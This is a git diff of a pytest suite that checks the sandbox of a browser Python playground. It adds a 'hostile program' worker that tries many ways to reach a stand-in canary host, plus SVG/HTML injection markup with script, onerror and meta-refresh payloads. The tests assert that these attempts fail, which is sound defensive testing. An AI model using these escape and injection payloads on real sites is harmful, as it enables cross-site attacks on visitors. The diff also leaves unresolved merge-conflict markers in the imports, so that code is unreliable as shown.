@@ -4,6 +4,7 @@ With `--pyodide` and a copy of Pyodide it runs in Pyodide, too (test_lite_site.p
 """
 
 import base64
+import hashlib
 import io
 import json
 import linecache
@@ -16,33 +17,39 @@ import zlib
 from contextlib import redirect_stderr, redirect_stdout
 from pathlib import Path
 from types import SimpleNamespace
+from xml.etree import ElementTree
 from zipfile import ZipFile
 
 import nbformat
 import pytest
 import serving
+<<<<<<< HEAD
 from widget_page import CHROMIUM, FLAGS, says, still, until
+=======
+from house import ROOT
+from widget_page import CHROMIUM, FLAGS, says, until
+>>>>>>> 56d19905 (wip2)
 
 import autograd_nb
 from autograd_nb.course import library, playing
 from autograd_nb.course.site import pages, play_page
+from autograd_nb.widgets.pages import source
 
 pytestmark = pytest.mark.usefixtures("without_torch")  # as in a browser
 EXAMPLES = tomllib.loads((play_page.HERE / "words.toml").read_text("utf-8"))["examples"]
 WORDS = tomllib.loads((play_page.HERE / "words.toml").read_text("utf-8"))["words"]
-# The same messages as worker.js, with Python at the other end of a request; the page's policy is the real one.
+# The same messages as worker.js, with Python at the other end of a request. Its frame may make this one request; apart
+# from that its policy and the page's are the real ones.
 PIPE = """
-let place = "";
-self.onmessage = async ({ data }) => {
-  if (!data.run) {
-    place = new URL("python", data.wheel);
-    self.postMessage({ loading: "numpy", bytes: 12_345_678 });
-    return self.postMessage({ ready: true });
-  }
-  const answer = await fetch(place, { method: "POST", body: JSON.stringify(data) });
-  self.postMessage(answer.ok ? { done: data.run, result: await answer.text() } : { crashed: await answer.text() });
+self.onmessage = ({ data: files, ports: [port] }) => {
+  port.onmessage = async ({ data }) => {
+    const answer = await fetch("ADDRESS/python", { method: "POST", body: JSON.stringify(data) });
+    port.postMessage(answer.ok ? { done: data.run, result: await answer.text() } : { crashed: await answer.text() });
+  };
+  port.postMessage({ ready: true });
 };
 """
+PYODIDE = "pyodide.js", "pyodide.asm.js", "pyodide.asm.wasm", "python_stdlib.zip", "numpy.whl"
 ENDLESS = "while True:\n    pass\n"
 ABSENT_FLASK = playing.ABSENT.format(name="flask")
 
@@ -254,10 +261,17 @@ def test_each_cell_that_opens_in_play_does_there_what_it_did_in_its_chapter(note
 
 @pytest.fixture(scope="module")
 def address():
+    """A site with the page, and with files of Pyodide's names that hold nothing."""
     with tempfile.TemporaryDirectory() as folder:
         wheel = Path(folder, "autograd_nb-0.0-py3-none-any.whl")
         ZipFile(wheel, "w").close()
-        play_page.write(Path(folder), wheel)
+        play_page.write(Path(folder), wheel, "../pyodide/")
+        there = Path(folder, "pyodide")
+        there.mkdir()
+        for name in PYODIDE:
+            (there / name).write_bytes(b"")
+        numpy = {"file_name": "numpy.whl", "sha256": hashlib.sha256(b"").hexdigest()}
+        (there / "pyodide-lock.json").write_text(json.dumps({"packages": {"numpy": numpy}}))
         with serving.folder(folder) as address:
             yield f"{address}/play/"
 
@@ -266,20 +280,24 @@ def address():
 def play(browser, address):
     """A function that opens the page; errors in it fail the test, and so does a request elsewhere."""
     contexts, wrong = [], []
+    policy = (play_page.HERE / "python.html").read_text("utf-8")
+    policy = policy.replace("'none';", f"'none'; connect-src {address};", 1)
+    site = address.removesuffix("play/")
 
     def python(route):
         asked = json.loads(route.request.post_data)
         if asked["code"] == ENDLESS:
             return  # no answer comes
-        route.fulfill(body=json.dumps(playing.run(asked["code"], asked["line"])))
+        answer(route, body=json.dumps(playing.run(asked["code"], asked["line"])))
 
     def open_(more="", width=1280, **options):
         contexts.append(browser.new_context(viewport={"width": width, "height": 800}, **options))
         page = contexts[-1].new_page()
         page.on("pageerror", lambda error: wrong.append(str(error)))
-        page.on("request", lambda request: None if request.url.startswith(("data:", "blob:", address)) else
+        page.on("request", lambda request: None if request.url.startswith(("data:", "blob:", site)) else
                 wrong.append(request.url))  # fmt: skip
-        contexts[-1].route("**/worker.js*", lambda route: route.fulfill(body=PIPE, content_type="text/javascript"))
+        contexts[-1].route("**/worker.js*", lambda route: route.fulfill(body=PIPE.replace("ADDRESS/", address)))
+        contexts[-1].route("**/python.html", lambda route: route.fulfill(body=policy, content_type="text/html"))
         contexts[-1].route("**/python", python)
         page.goto(address + more)
         return page
@@ -288,6 +306,11 @@ def play(browser, address):
     for context in contexts:
         context.close()
     assert wrong == []
+
+
+def answer(route, **options):
+    """Answer a request of the frame, which has nobody's origin."""
+    route.fulfill(headers={"Access-Control-Allow-Origin": "*"}, **options)
 
 
 def run(page, code=None):
@@ -406,21 +429,27 @@ def test_it_works_by_keyboard(play):
 
 
 @pytest.mark.browser
-def test_a_network_that_is_off_is_told(play):
+@pytest.mark.parametrize(("file", "refused"), [
+    ("worker.js", "off"), ("pyodide.asm.wasm", "absent"), ("numpy.whl", "other bytes"),
+    ("autograd_nb-0.0-py3-none-any.whl", "off")])  # fmt: skip
+def test_a_download_that_fails_is_told_and_tried_again(play, file, refused):
     page = play()
-    page.context.route("**/worker.js*", lambda route: route.abort())
+    page.route(f"**/{file}", lambda route: route.abort() if refused == "off" else route.fulfill(
+        status=404 if refused == "absent" else 200, body="bytes"), times=1)  # fmt: skip
     run(page)
-    says(page.locator(state), WORDS["offline"][:40])
+    says(page.locator(state), WORDS["offline"])
+    run(page, "print(7)")
+    says(page.locator("#printed"), "7")
 
 
 @pytest.mark.browser
 def test_a_program_that_breaks_python_itself_is_told_and_the_next_one_runs(play):
     page = play()
-    page.context.route("**/python", lambda route: route.fulfill(status=500, body="Maximum call stack size exceeded"))
+    page.context.route("**/python", lambda route: answer(route, status=500, body="Maximum call stack size exceeded"))
     run(page)
     says(page.locator(state), WORDS["crashed"].replace("{error}", "Maximum call stack size exceeded"))
     page.context.unroute("**/python")
-    page.context.route("**/python", lambda route: route.fulfill(body=json.dumps(playing.run("print(7)"))))
+    page.context.route("**/python", lambda route: answer(route, body=json.dumps(playing.run("print(7)"))))
     run(page)
     says(page.locator("#printed"), "7")
 
@@ -453,6 +482,188 @@ def test_a_link_that_unpacks_to_more_than_a_program_may_have_is_told(play):
 
 def playing_link(code):
     return base64.urlsafe_b64encode(zlib.compress(code.encode(), 9, -15)).decode().rstrip("=")
+
+
+# -- a hostile program -------------------------------------------------------------------------------------------------
+
+# A program can do whatever a worker can. Each of these tries one way out; what it gets hold of goes into `hits`.
+CANARY = """
+const far = "FAR/canary?";
+const one = (of, well, ...ill) => new Promise((resolve, reject) => {
+  of[well] = resolve;
+  for (const each of ill) of[each] = reject;
+});
+const ways = {
+  origin: () => { if (self.origin !== "null") return true; throw 0; },
+  indexedDB: () => one(indexedDB.open("theirs"), "onsuccess", "onerror"),
+  databases: () => indexedDB.databases(),
+  caches: () => caches.open("theirs"),
+  files: () => navigator.storage.getDirectory(),
+  localStorage: () => localStorage.length,
+  cookies: () => cookieStore.getAll(),
+  locks: () => navigator.locks.query(),
+  fetch: () => fetch(far + "fetch"),
+  no_cors: () => fetch(far + "no_cors", { mode: "no-cors" }),
+  own_site: () => fetch("SITE/play/words"),
+  request: () => {
+    const asked = new XMLHttpRequest();
+    asked.open("GET", far + "request", false);
+    asked.send();
+  },
+  scripts: () => importScripts(far + "scripts"),
+  module: () => import(far + "module"),
+  evaluated: () => new Function("return 1")(),
+  socket: () => one(new WebSocket(far.replace("http", "ws")), "onopen", "onerror", "onclose"),
+  events: () => one(new EventSource(far + "events"), "onopen", "onerror"),
+  transport: () => new WebTransport(far.replace("http:", "https:")).ready,
+  connection: () => new RTCPeerConnection(),
+  beacon: () => { if (!navigator.sendBeacon(far + "beacon")) throw 0; },
+  service: () => navigator.serviceWorker.register("SITE/play/worker.js"),
+  notice: () => { if (Notification.permission !== "granted") throw 0; },
+  window: () => window.parent.document,
+  inner: () => {
+    const text = `fetch("${far}inner", { mode: "no-cors" }).then(() => postMessage(1))`;
+    return one(new Worker(URL.createObjectURL(new Blob([text]))), "onmessage", "onerror");
+  },
+  outer: () => one(new Worker(far + "outer"), "onmessage", "onerror"),
+};
+self.onmessage = ({ data: files, ports: [port] }) => {
+  port.onmessage = async ({ data: { run } }) => {
+    new BroadcastChannel("theirs").postMessage("canary");
+    self.postMessage({ canary: 1 });
+    const hits = [];
+    const late = () => new Promise((_, reject) => setTimeout(reject, 2000));
+    await Promise.all(Object.entries(ways).map(async ([name, way]) => {
+      try {
+        await Promise.race([way(), late()]);
+        hits.push(name);
+      } catch {}
+    }));
+    port.postMessage({ done: run, result: JSON.stringify({ ...RESULT, printed: `hits: ${hits}.` }) });
+    port.postMessage({ done: run, result: "{}" });
+    port.postMessage({ ready: true });
+  };
+  port.postMessage({ ready: true });
+};
+"""
+# markup that leads away, loads something or runs a script, wherever a page takes it over as it stands
+MARKUP = """<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh"
+content="0;url=FAR/canary?meta"/><iframe xmlns="http://www.w3.org/1999/xhtml" src="FAR/canary?frame"/><form
+xmlns="http://www.w3.org/1999/xhtml" action="FAR/canary?form"><input autofocus="1" onfocus="canary()"/></form><img
+xmlns="http://www.w3.org/1999/xhtml" src="FAR/canary?img" onerror="canary()"/><link rel="prefetch"
+xmlns="http://www.w3.org/1999/xhtml" href="FAR/canary?prefetch"/></foreignObject>
+<a href="FAR/canary?a"><text>a</text></a><image href="FAR/canary?image"/><use href="FAR/canary?use#a"/><style>@import url(FAR/canary?style); * { fill:
+url(FAR/canary?css#a) }</style><script>canary()</script><rect onclick="canary()" style="fill:url(FAR/canary?look)"
+onload="canary()" width="5" height="5"/><animate attributeName="href" onbegin="canary()"/><set onbegin="canary()"/>"""
+
+
+def hostile(far):
+    """The results of a program that put its own markup into each picture and each sentence of its stepper."""
+    done = playing.run(EXAMPLES[0]["code"])
+    for detail in done["stepper"]["details"].values():
+        for place, story in enumerate(detail["stories"]):
+            held = json.loads(zlib.decompress(base64.b64decode(story)))
+            for slot in held["slots"]:
+                slot["forms"] = [MARKUP.replace("FAR", far) + form for form in slot["forms"]]
+            for step in held["steps"]:
+                step["sentence"] += MARKUP.replace("FAR", far)
+            detail["stories"][place] = base64.b64encode(zlib.compress(json.dumps(held).encode())).decode()
+    return json.dumps(done | {"error": MARKUP, "why": MARKUP})
+
+
+LISTEN = """async () => {
+  self.heard = [];
+  new BroadcastChannel("theirs").onmessage = ({ data }) => heard.push(data);
+  addEventListener("message", ({ data }) => heard.push(data));
+  self.canary = () => heard.push("script");
+  localStorage.theirs = document.cookie = "theirs=1";
+  await new Promise((resolve) => (indexedDB.open("theirs").onsuccess = resolve));
+  await caches.open("theirs");
+}"""
+
+
+@pytest.fixture
+def hostile_page(browser, address, tmp_path, monkeypatch):
+    """A page whose programs are hostile, and a function that gives what came of them elsewhere."""
+    context = browser.new_context(viewport={"width": 1280, "height": 800})
+    page, asked, left = context.new_page(), [], []
+    with serving.folder(tmp_path) as far:
+        script = CANARY.replace("RESULT", hostile(far)).replace("FAR", far)
+        script = script.replace("SITE", address.removesuffix("/play/"))
+        page.route("**/worker.js*", lambda route: route.fulfill(body=script))
+        monkeypatch.setattr(serving.Quiet, "log_request", lambda handler, *_: asked.append(handler.path))
+        context.on("page", lambda other: left.append(other.url))
+        page.goto(address)
+        page.on("framenavigated", lambda frame: left.append(frame.url))
+        page.evaluate(LISTEN)
+        yield page, lambda: {
+            "asked": [path for path in asked if "canary" in path], "heard": page.evaluate("heard"),
+            "left": [place for place in left if not place.endswith("/play/python.html")]}  # fmt: skip
+    context.close()
+
+
+NOWHERE = {"asked": [], "left": [], "heard": []}
+
+
+@pytest.mark.browser
+def test_a_program_reaches_neither_the_site_nor_its_visitor_nor_anybody_else(hostile_page):
+    page, elsewhere = hostile_page
+    run(page)
+    says(page.locator("#printed"), "hits: .")
+    assert page.locator("#walk svg").count() and "<foreignObject" in page.locator("#error").inner_text()
+    for key in ("End", "Home", "ArrowRight", "ArrowRight"):
+        page.get_by_role("slider").first.focus()
+        page.keyboard.press(key)
+        page.locator("#walk svg").first.click()
+    kinds = page.eval_on_selector_all("#walk svg, #walk svg *", "all => [...new Set(all.map((each) => each.nodeName))]")
+    assert {*kinds} <= {"svg", "title", "desc", "g", "rect", "circle", "polygon", "path", "text"}
+    names = page.eval_on_selector_all("#walk svg *", "all => all.flatMap((each) => each.getAttributeNames())")
+    assert not {name for name in names if re.match("on|.*href|style", name)}
+    assert elsewhere() == NOWHERE and page.url.endswith("/play/")
+    assert page.evaluate("[localStorage.theirs, document.cookie]") == ["theirs=1", "theirs=1"]
+
+
+@pytest.mark.browser
+def test_all_of_a_picture_of_ours_passes(browser):
+    page = browser.new_page()
+    code = re.sub("^export ", "", source("pictures", "js"), flags=re.M)
+    parsed = f"(markup) => {{{code}; return new XMLSerializer().serializeToString(parseSvg(markup)); }}"
+    drawn = [path.read_text("utf-8") for path in (ROOT / "tests" / "golden").rglob("*.svg")]
+    drawn = [each for each in drawn if "<style" not in each]  # an image, shown by itself
+    assert len(drawn) > 10
+    for each in drawn:
+        once = page.evaluate(parsed, each)
+        assert ElementTree.canonicalize(once) == ElementTree.canonicalize(each)
+    page.close()
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("answer", [
+    "null", "7", "'{'", "'[]'", "'null'", "{}", "'{\"printed\": 1}'", "'\"' + 'x'.repeat(60_000_000) + '\"'",
+    """'{"printed": "", "error": "", "why": "", "stepper": {"step": 0}}'""",
+    """JSON.stringify({ printed: "", error: "", why: "", stepper: { step: 0, detail: "fast", speed: 1, titles: [""],
+        details: { fast: { count: 1, ends: [1], stories: 5 } } } })"""], ids=range(10))  # fmt: skip
+def test_results_that_are_none_are_told_and_the_next_program_runs(play, answer):
+    page = play()
+    worker = PIPE.replace("await answer.text()", answer, 1)
+    page.route("**/worker.js*", lambda route: route.fulfill(body=worker.replace("ADDRESS/", page.url)), times=1)
+    run(page)
+    says(page.locator(state), WORDS["unreadable"])
+    run(page, "print(7)")
+    says(page.locator("#printed"), "7")
+
+
+@pytest.mark.browser
+def test_the_place_where_programs_run_does_nothing_for_another_page(browser, address):
+    """Opened by itself it has the site's origin."""
+    page = browser.new_page()
+    page.goto(f"{address}python.html")
+    workers = []
+    page.on("worker", lambda worker: workers.append(worker))
+    page.evaluate("script => postMessage({ script }, '*', [new MessageChannel().port1])", "fetch('/canary')")
+    page.evaluate("() => new Promise((resolve) => setTimeout(resolve))")
+    assert workers == []
+    page.close()
 
 
 # -- in a browser, with a copy of Pyodide ------------------------------------------------------------------------------
@@ -539,4 +750,4 @@ def test_in_pyodide_a_program_without_end_or_bottom_or_scruples_harms_nobody(in_
         shown = ran(page, HOSTILE.replace("{elsewhere}", f"{elsewhere}/x"))
         assert "tried" in shown["printed"] and shown["error"] == ""
         page.wait_for_timeout(1000)
-        assert asked == []
+        assert {url.partition(":")[0] for url in asked} <= {"blob"}
